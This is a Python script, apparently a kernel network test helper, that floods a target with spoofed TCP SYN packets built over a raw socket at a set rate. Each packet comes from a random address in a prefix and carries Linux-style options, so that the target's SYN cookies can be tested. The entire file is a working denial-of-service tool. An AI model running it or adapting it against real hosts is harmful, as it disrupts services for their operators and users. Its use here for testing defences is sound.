#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A hostile peer: spoofed SYNs at a steady rate.

    syn_flood.py DST DPORT RATE SECONDS [--prefix 10.99.0.0/16] [--seed N]

Sends RATE SYNs a second for SECONDS to DST:DPORT from a raw IP socket
(IP_HDRINCL: no scapy, whose start alone takes longer than the flood in the
test guest), each from a random address of PREFIX (neither its network nor
its broadcast address), a random port and a random ISN, with the options a
Linux SYN carries, in Linux's order (MSS 1460, SACK_PERM, TS, NOP, WS 7), so
that a SYN cookie has an MSS, SACK, timestamps and a window scale to encode.
The SYNs are paced to their schedule, not sent in bursts: a late one goes out
at once, the next ones on time again.

Prints "flooding DST:DPORT at RATE/s for SECONDS s" once the socket is open
(the caller waits for it), then at the end

    sent N SYNs in T s (R/s)

Nothing is ever answered: the caller makes the prefix routable from the
listener towards us and drops what comes back.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

from inet_csum import csum

SYN = 0x02


def syn(rng, src, dst, dport):
    """One SYN as Linux sends it, IP header included, from SRC."""
    sport = rng.randrange(1024, 65536)
    isn = rng.getrandbits(32)
    tsval = rng.getrandbits(32)
    opts = (struct.pack("!BBH", 2, 4, 1460) +		# MSS
            struct.pack("!BB", 4, 2) +			# SACK permitted
            struct.pack("!BBII", 8, 10, tsval, 0) +	# timestamps
            struct.pack("!B", 1) +			# NOP
            struct.pack("!BBB", 3, 3, 7))		# window scale 7
    hlen = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (hlen // 4) << 4, SYN,
                      64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16),
                     0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)	# DF, TTL 64
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("dport", type=int)
    ap.add_argument("rate", type=float)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--prefix", default="10.99.0.0/16")
    ap.add_argument("--seed", type=int, default=14)
    args = ap.parse_args()
    net = ipaddress.ip_network(args.prefix)
    if net.num_addresses < 4:
        raise SystemExit("prefix %s: too few addresses to spoof" % net)
    rng = random.Random(args.seed)
    dst = socket.inet_aton(args.dst)
    # IPPROTO_RAW: the header is ours (IP_HDRINCL), the source address too
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    n = int(args.rate * args.seconds)
    print("flooding %s:%d at %g/s for %g s" % (args.dst, args.dport, args.rate,
                                              args.seconds), flush=True)
    t0 = time.monotonic()
    for i in range(n):
        delay = t0 + i / args.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        host = net.network_address + rng.randrange(1, net.num_addresses - 1)
        s.sendto(syn(rng, host.packed, dst, args.dport), (args.dst, 0))
    t = time.monotonic() - t0
    print("sent %d SYNs in %.2f s (%.0f/s)" % (n, t, n / t if t > 0 else 0), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
